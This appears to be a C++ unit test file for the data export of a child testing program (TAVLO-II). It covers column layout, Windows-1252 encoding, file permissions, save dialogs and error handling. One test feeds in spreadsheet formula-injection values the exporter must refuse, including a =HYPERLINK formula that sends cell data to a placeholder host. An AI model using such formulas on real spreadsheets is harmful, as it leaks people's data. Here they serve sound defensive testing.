#include "Ages.h"
#include "Exported.h"
#include "FixedArchive.h"
#include "RecordingSink.h"
#include "Str.h"
#include "TempDatabase.h"
#include "Files.h"
#include "Unprivileged.h"
#include "app/AppContext.h"
#include "archive/Backup.h"
#include "archive/ExportDialog.h"
#include "store/files/ExportFile.h"
#include "store/tables/PersonTable.h"
#include "store/tables/TestStore.h"

#include <QBuffer>
#include <QComboBox>
#include <QDir>
#include <QFileDialog>
#include <QFileInfo>
#include <QProgressDialog>
#include <QPushButton>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <sys/stat.h>


using namespace tavlo;
using tavlo::test::str;
using namespace tavlo::test::files;
using tavlo::test::childAged;
using tavlo::test::fixedTest;
using tavlo::test::RecordingSink;
using tavlo::test::exported;
using tavlo::test::TempDatabase;

namespace {


// The fields of every line; each line must end in CR LF and hold 188 tab-terminated fields.
QList<QList<QByteArray>> rowsOf(const QByteArray& file)
{
    EXPECT_TRUE(file.endsWith("\t\r\n"));
    QList<QList<QByteArray>> rows;
    for (const QByteArray& line : file.split('\n').mid(0, file.count('\n'))) {
        EXPECT_TRUE(line.endsWith("\t\r"));
        EXPECT_EQ(line.count('\t'), 188);
        rows.append(line.chopped(2).split('\t'));
    }
    return rows;
}

// Regular files may grow to at most bytes meanwhile, as on a disk that fills up.

} // namespace

TEST(ExportFile, HeaderNamesThe188Columns)
{
    TempDatabase t;
    const auto rows = rowsOf(exported(t.db));
    ASSERT_EQ(rows.size(), 1) << "an empty database gives the header alone";
    const QList<QByteArray>& names = rows[0];
    EXPECT_EQ(names.mid(0, 16), (QList<QByteArray>{"NID", "NAMN", "ADRESS", "TFN", "NATION", "HEMSPRAK", "SKOLA",
                                                   "KLASS", "TEST_VID", "TESTLED", "TESTDAT", "FODELSED", "ALDER",
                                                   "KON_1P2F", "HAN_1V2H", "OVRIGT"}));
    // Field 16 + the measure's column; the two renamed measures sit at columns 19 and 20.
    EXPECT_EQ(names.mid(16, 2), (QList<QByteArray>{"AI", "KR_A"}));
    EXPECT_EQ(names.mid(33, 4), (QList<QByteArray>{"FR_BID", "FB_A", "FB_AB", "FI"}));
    EXPECT_EQ(names[75], "VP_F");
    EXPECT_EQ(names.mid(76, 2), (QList<QByteArray>{"MF1_1", "MF1_2"}));
    EXPECT_EQ(names.mid(91, 2), (QList<QByteArray>{"MF1_16", "MF2_1"}));
    EXPECT_EQ(names.mid(171, 2), (QList<QByteArray>{"MF6_16", "MF_B_1"}));
    EXPECT_EQ(names[187], "MF_B_16");
}

TEST(ExportFile, PersonLinesCarryEveryFieldInWindows1252AndInNumberOrder)
{
    TempDatabase t;
    RecordingSink sink;
    TestRecord test = childAged(8, 6);
    PersonalData& p = test.person;
    p.NAMN = QStringLiteral("Åse Ødegård");
    p.ADRESS = QStringLiteral("Bjørkeveien 5, Oslo");
    p.TELEFON = QStringLiteral("22 33 44 55");
    p.NATIONALITET = QStringLiteral("norsk");
    p.HOMELANGUAGE = QStringLiteral("samisk");
    p.SKOLA = QStringLiteral("Æbeltoft skole");
    p.KLASS = QStringLiteral("3B");
    p.TESTAD_VID = QStringLiteral("BUP");
    p.TESTLEDARE = QStringLiteral("O'Neil");
    p.TESTDATE = {2014, 3, 5};
    p.BORNDATE = {2005, 8, 15};
    p.SEX = 2;
    p.HANDEDNESS = 3;
    p.AGE = 77; // stored, never exported
    p.OTHER = QStringLiteral("Egenandel 50 €");
    for (const MeasureInfo& m : measures())
        test.scores[m.key] = m.column;
    test.scores.AI = 0;
    test.scores.KR_A = NOT_ENTERED;
    for (int n = 1; n <= kGridCellCount; ++n)
        test.grid.cell(n) = n % 5;
    test.grid.cell(112) = NOT_ENTERED;
    // Two persons without score rows, stored out of order around it and named against the
    // order of their numbers.
    TestRecord unscored = childAged(7, 0);
    unscored.person.ID = 3;
    unscored.person.NAMN = QStringLiteral("Cecilie");
    unscored.person.BORNDATE = Date{}; // stored as NULL
    ASSERT_EQ(InsertPersonWithId(t.db, unscored.person), 1);
    ASSERT_TRUE(SaveTest(t.db, test, true));
    ASSERT_EQ(test.person.ID, 4);
    unscored.person.ID = 9;
    unscored.person.NAMN = QStringLiteral("Anders");
    ASSERT_EQ(InsertPersonWithId(t.db, unscored.person), 1);

    QList<QByteArray> expected(188);
    const QList<QByteArray> person = {"4", "\xC5" "se \xD8" "deg\xE5" "rd", "Bj\xF8" "rkeveien 5, Oslo",
                                      "22 33 44 55", "norsk", "samisk", "\xC6" "beltoft skole", "3B", "BUP",
                                      "O'Neil", "2014-03-05", "2005-08-15", "8.6.20", "2", "3",
                                      "Egenandel 50 \x80"};
    std::copy(person.begin(), person.end(), expected.begin());
    for (const MeasureInfo& m : measures())
        expected[15 + m.column] = QByteArray::number(m.column);
    expected[16] = "0";
    expected[17] = "";
    for (int n = 1; n < kGridCellCount; ++n)
        expected[75 + n] = QByteArray::number(n % 5);

    const auto rows = rowsOf(exported(t.db));
    ASSERT_EQ(rows.size(), 4);
    EXPECT_EQ(rows[1].value(0), "3");
    for (int i = 0; i < 188; ++i)
        EXPECT_EQ(rows[2].value(i), expected[i]) << "field " << i + 1;
    // Without a birth date there is no age; without score rows every score is empty, also
    // right after a person with scores.
    EXPECT_EQ(rows[3].value(0), "9");
    EXPECT_EQ(rows[3].mid(10, 3), (QList<QByteArray>{"2012-06-15", "", ""}));
    EXPECT_EQ(rows[3].mid(15), QList<QByteArray>(173)) << "field 16 and the scores";
    EXPECT_TRUE(sink.messages.isEmpty());
}

TEST(ExportFile, AStoredTextItCannotCarryOrThatASpreadsheetWouldRunIsRefusedNamingPersonAndField)
{
    TempDatabase t;
    RecordingSink sink;
    TestRecord test = childAged(8, 0);
    ASSERT_TRUE(SaveTest(t.db, test, true));
    // Values other tools may leave; the program itself refuses them.
    const struct {
        const char* assignment;
        QStringList parts; // of the refusal; empty: written
    } cases[] = {
        {"SKOLA = 'Nord' || char(9) || 'skole'", {"\"Skole\"", "U+0009"}},
        // An invisible character goes by its code, as the person form names it.
        {"NAMN = 'Ola' || char(8203)", {"\"Navn\" inneholder tegnet U+200b,"}},
        {"NAMN = '=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")'", {"\"Navn\" begynner med \"=\"", "formel"}},
        {"TELEFON = '+47 22 33 44 55'", {"\"Telefon\" begynner med \"+\""}},
        {"ADRESS = '-1'", {"\"Adresse\" begynner med \"-\""}},
        {"OTHER = '@SUM(A1)'", {"\"Annet\" begynner med \"@\""}},
        {"NAMN = 'Ola = Kari-Mette @ +'", {}},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.assignment);
        ASSERT_EQ(UpdatePerson(t.db, test.person), 1);
        t.exec(QStringLiteral("UPDATE TESTPERSON SET ") + QString::fromUtf8(c.assignment));
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        const ExportResult result = ExportAll(t.db, buffer);
        EXPECT_EQ(result.outcome, c.parts.isEmpty() ? ExportOutcome::Written : ExportOutcome::Refused);
        if (c.parts.isEmpty())
            continue;
        for (const QString& part : c.parts + QStringList{QStringLiteral("Testperson nummer 1 ")})
            EXPECT_TRUE(result.message.contains(part)) << result.message.toStdString();
    }
    EXPECT_TRUE(sink.messages.isEmpty()) << "the dialog shows it";
}

// The file the export wrote before tests were read in bulk, for the fixed archive: the same
// bytes, also when the chunks of the bulk read end at a gap or a person without scores. A file
// written by the old code, not a second formatter in the test, because it is the old code's
// bytes (dates, ages, code page, empty fields) that must not change.
TEST(ExportFile, TheFileIsNoMoreReadableThanTheDatabaseWhateverTheUmask)
{
    TempDatabase t;
    RecordingSink sink;
    ASSERT_EQ(InsertPersonWithId(t.db, fixedTest(1).person), 1);
    QTemporaryDir out;
    const QString target = out.filePath(QStringLiteral("eksport.txt"));
    const mode_t mask = ::umask(002);
    for (const mode_t mode : {mode_t(0660), mode_t(0640), mode_t(0600)}) {
        for (const bool earlier : {false, true}) {
          for (const ExportFormat format : {ExportFormat::Text, ExportFormat::Csv}) {
            SCOPED_TRACE(earlier ? "over an earlier file open to all" : "a new file");
            SCOPED_TRACE(format == ExportFormat::Csv ? "csv" : "txt");
            QFile::remove(target);
            if (earlier) {
                writeFile(target, "tidligere");
                ASSERT_EQ(::chmod(QFile::encodeName(target), 0666), 0);
            }
            ASSERT_EQ(::chmod(QFile::encodeName(t.databasePath()), mode), 0);
            EXPECT_EQ(WriteExportFile(t.db, target, {}, ExportEncoding::Windows1252, format).outcome,
                      ExportOutcome::Written);
            struct stat written {};
            ASSERT_EQ(::stat(QFile::encodeName(target), &written), 0);
            EXPECT_EQ(written.st_mode & 0777, mode) << std::oct << mode;
          }
        }
    }
    ::umask(mask);
}

TEST(ExportFile, TheFixedArchiveExportsByteForByteAsBefore)
{
    TempDatabase t;
    RecordingSink sink;
    makeFixedArchive(t);
    const QByteArray expected = contentsOf(QStringLiteral(TAVLO_TEST_DATA "/fixed-archive-export.txt"));
    const QList<QByteArray> want = expected.split('\n');
    // Chunks that end on a gap, on a person without scores, on the last person, and one
    // chunk for the whole archive.
    for (const int chunkSize : {1, 2, 3, 5, 13, kTestsPerChunk}) {
        SCOPED_TRACE(chunkSize);
        const QByteArray actual = exported(t.db, chunkSize);
        const QList<QByteArray> got = actual.split('\n');
        for (qsizetype i = 0; i < std::max(want.size(), got.size()); ++i)
            ASSERT_EQ(got.value(i).toStdString(), want.value(i).toStdString()) << "line " << i + 1;
        EXPECT_EQ(actual, expected);
    }
    EXPECT_TRUE(sink.messages.isEmpty());
}

class ExportDialogTest : public ::testing::Test {
protected:
    void SetUp() override
    {
        ASSERT_TRUE(t.connect(context.db));
        SetExportFileChooser([this](QWidget* owner) {
            chooserOwner = owner;
            return answers.isEmpty() ? QString() : answers.takeFirst();
        });
        SetExportFileOpener([this](const QString& path) { opened.append(path); });
    }
    void TearDown() override
    {
        SetExportFileChooser({});
        SetExportFileOpener({});
        SetExportDialogRunner({});
        SetExportProgressWatcher({});
    }
    void press(ExportDataDialog& dialog, QPushButton* button)
    {
        QObject::connect(&dialog, &QDialog::finished, [this](int result) { finished.append(result); });
        dialog.show();
        button->click();
    }

    TempDatabase t;
    RecordingSink sink;
    AppContext context;
    QTemporaryDir out;
    const QString target = out.path() + QStringLiteral("/eksport.txt");
    QStringList answers;
    QWidget* chooserOwner = nullptr;
    QStringList opened;
    QList<int> finished;
};

TEST_F(ExportDialogTest, TheFileDialogsUseTheProgramsTextsAndExtensions)
{
    ExportDataDialog dialog(context);
    EXPECT_EQ(dialog.windowTitle(), QStringLiteral("TAVLO-II  Eksporter data"));
    const std::pair<std::unique_ptr<QFileDialog>, QString> cases[] = {
        {MakeExportFileDialog(&dialog), QStringLiteral("TAVLO-II  Spare tekstfil|resultater.txt")},
        {MakeBackupFileDialog(&dialog), QStringLiteral("TAVLO-II  Välj mapp att spara databasfilen i|resultater.mdb")},
    };
    EXPECT_EQ(QFileInfo(cases[1].first->selectedFiles().value(0)).fileName(), QStringLiteral("TAVLO-II_backup.mdb"));
    for (const auto& [save, expected] : cases) {
        EXPECT_EQ(save->nameFilters(), QStringList{QStringLiteral("Alla filer (*.*)")});
        save->setDirectory(out.path());
        save->selectFile(QStringLiteral("resultater")); // typed without an extension
        static_cast<QDialog*>(save.get())->accept();    // the dialog's own Save
        EXPECT_EQ(save->windowTitle() + u'|' + QFileInfo(save->selectedFiles().value(0)).fileName(), expected);
    }
}

TEST_F(ExportDialogTest, OkReplacesAnEarlierFileWithTheWholeExportOpensItAndCloses)
{
    TestRecord test = childAged(8, 6);
    ASSERT_TRUE(SaveTest(context.db, test, true));
    writeFile(target, QByteArray(20000, 'x')); // longer than the export: no tail may be left
    answers = {target};
    QWidget mainWindow;
    ExportDataDialog* shown = nullptr;
    SetExportDialogRunner([&](ExportDataDialog& dialog) {
        shown = &dialog;
        EXPECT_EQ(dialog.parentWidget(), &mainWindow);
        press(dialog, dialog.okButton());
    });
    ExportDialog(context, &mainWindow);

    EXPECT_EQ(chooserOwner, shown) << "the save dialog belongs to the export dialog";
    EXPECT_EQ(contentsOf(target), exported(context.db));
    EXPECT_EQ(opened, QStringList{target});
    EXPECT_EQ(finished, QList<int>{QDialog::Accepted});
    EXPECT_EQ(filesIn(out.path()), QStringList{QStringLiteral("eksport.txt")});
    EXPECT_TRUE(sink.messages.isEmpty());
}

TEST_F(ExportDialogTest, TheFormatStartsAtTheTextFileAndTheResearchFileIsWrittenWhenChosen)
{
    // Letters Windows-1252 lacks: the research file, UTF-8 always, asks nothing about them.
    TestRecord test = childAged(8, 6);
    test.person.NAMN = QStringLiteral("Máret Čorgaš");
    ASSERT_TRUE(SaveTest(context.db, test, true));
    ExportDataDialog dialog(context);
    ASSERT_EQ(dialog.formatChoice()->count(), 2);
    EXPECT_EQ(dialog.format(), ExportFormat::Text);
    std::unique_ptr<QFileDialog> save = MakeExportFileDialog(&dialog, ExportFormat::Csv);
    save->setDirectory(out.path());
    save->selectFile(QStringLiteral("resultater"));
    static_cast<QDialog*>(save.get())->accept();
    EXPECT_EQ(QFileInfo(save->selectedFiles().value(0)).fileName(), QStringLiteral("resultater.csv"));

    const QString csv = out.filePath(QStringLiteral("forskning.csv"));
    answers = {csv};
    dialog.formatChoice()->setCurrentIndex(1);
    EXPECT_EQ(dialog.format(), ExportFormat::Csv);
    press(dialog, dialog.okButton());
    QBuffer expected;
    expected.open(QIODevice::WriteOnly);
    ASSERT_EQ(ExportAllCsv(context.db, expected).outcome, ExportOutcome::Written);
    EXPECT_EQ(contentsOf(csv), expected.data());
    EXPECT_TRUE(expected.data().startsWith("\xEF\xBB\xBFNID,NAMN,"));
    EXPECT_EQ(opened, QStringList{csv});
    EXPECT_EQ(finished, QList<int>{QDialog::Accepted});
    EXPECT_TRUE(sink.messages.isEmpty()) << str(sink.texts().join(u'\n'));
}

TEST_F(ExportDialogTest, CancelWritesNothing)
{
    for (const bool inSaveDialog : {false, true}) {
        ExportDataDialog dialog(context);
        press(dialog, inSaveDialog ? dialog.okButton() : dialog.cancelButton());
    }
    EXPECT_EQ(finished, (QList<int>{QDialog::Rejected, QDialog::Rejected}));
    EXPECT_TRUE(filesIn(out.path()).isEmpty());
    EXPECT_TRUE(opened.isEmpty());
    EXPECT_TRUE(sink.messages.isEmpty());
}

TEST_F(ExportDialogTest, AFullDiskGives1829KeepsTheEarlierFileAndTheDialogForAnotherTry)
{
    writeFile(target, kEarlier);
    answers = {target, target};
    ExportDataDialog dialog(context);
    {
        FileSizeLimit nearlyFull(600); // less than the header line
        press(dialog, dialog.okButton());
    }
    EXPECT_EQ(contentsOf(target), kEarlier);
    EXPECT_EQ(filesIn(out.path()), QStringList{QStringLiteral("eksport.txt")}) << "no half file beside it";
    ASSERT_EQ(sink.messages.size(), 1);
    EXPECT_EQ(sink.messages[0].caption, QStringLiteral("TAVLO-II"));
    // The program's own text, then which file and what to do.
    EXPECT_TRUE(sink.messages[0].text.startsWith(QStringLiteral("Feil vid skrivning av fil (code 1829)\n\nFilen ")))
        << str(sink.messages[0].text);
    EXPECT_TRUE(sink.messages[0].text.contains(QStringLiteral("disken ikke er full"))) << str(sink.messages[0].text);
    EXPECT_TRUE(opened.isEmpty());
    EXPECT_TRUE(finished.isEmpty());
    EXPECT_TRUE(dialog.isVisible());

    dialog.okButton()->click();
    EXPECT_EQ(contentsOf(target), exported(context.db));
    EXPECT_EQ(finished, QList<int>{QDialog::Accepted});
}

TEST_F(ExportDialogTest, ARefusedTextOrAFailedReadShowsItsMessageAloneAndKeepsTheEarlierFile)
{
    TestRecord test = childAged(8, 0);
    ASSERT_TRUE(SaveTest(context.db, test, true));
    writeFile(target, kEarlier);
    answers = {target, target};
    ExportDataDialog dialog(context);
    const struct {
        QString breakIt;
        QString said;
        MessageIcon icon;
    } cases[] = {
        {QStringLiteral("UPDATE TESTPERSON SET SKOLA = 'Nord' || char(9) || 'skole'"), QStringLiteral("U+0009"),
         MessageIcon::Exclamation},
        {QStringLiteral("DROP TABLE TESTDATA_TAVLO_MF"), QStringLiteral("no such table"), MessageIcon::Stop},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.breakIt.toStdString());
        sink.messages.clear();
        t.exec(QStringLiteral("UPDATE TESTPERSON SET SKOLA = 'Nord'"));
        t.exec(c.breakIt);
        if (!dialog.isVisible())
            press(dialog, dialog.okButton());
        else
            dialog.okButton()->click(); // the dialog stayed for another try
        EXPECT_EQ(contentsOf(target), kEarlier);
        EXPECT_EQ(filesIn(out.path()), QStringList{QStringLiteral("eksport.txt")});
        ASSERT_EQ(sink.messages.size(), 1);
        EXPECT_TRUE(sink.messages[0].text.contains(c.said)) << sink.texts()[0].toStdString();
        EXPECT_EQ(sink.messages[0].icon, c.icon);
        EXPECT_TRUE(opened.isEmpty());
        EXPECT_TRUE(finished.isEmpty());
    }
}

TEST_F(ExportDialogTest, CancellingAfterTheFirstChunkLeavesNoFileAndTheEarlierOneAsItWasAndSaysNothing)
{
    {
        Transaction transaction(context.db);
        for (int id = 1; id <= kTestsPerChunk + 10; ++id)
            ASSERT_EQ(InsertPersonWithId(context.db, fixedTest(id).person), 1);
        ASSERT_TRUE(transaction.commit());
    }
    QList<int> seen;
    QStringList texts;
    SetExportProgressWatcher([&](QProgressDialog& progress) {
        seen.append(progress.value());
        const auto* button = progress.findChild<QPushButton*>();
        texts = {progress.labelText(), button ? button->text() : QString()};
        progress.cancel();
    });
    for (const bool earlier : {true, false}) {
        SCOPED_TRACE(earlier ? "over an earlier file" : "no earlier file");
        seen.clear();
        finished.clear();
        QFile::remove(target);
        if (earlier)
            writeFile(target, kEarlier);
        answers = {target};
        ExportDataDialog dialog(context);
        press(dialog, dialog.okButton());
        EXPECT_EQ(seen, QList<int>{kTestsPerChunk}) << "cancelled after the first chunk";
        EXPECT_EQ(texts, (QStringList{QStringLiteral("Eksporterer tester …"), QStringLiteral("&Avbryt")}));
        EXPECT_EQ(filesIn(out.path()), earlier ? QStringList{QStringLiteral("eksport.txt")} : QStringList{});
        EXPECT_EQ(contentsOf(target), earlier ? kEarlier : QByteArray("<unreadable>"));
        EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();
        EXPECT_TRUE(opened.isEmpty());
        EXPECT_EQ(finished, QList<int>{QDialog::Rejected});
    }
}
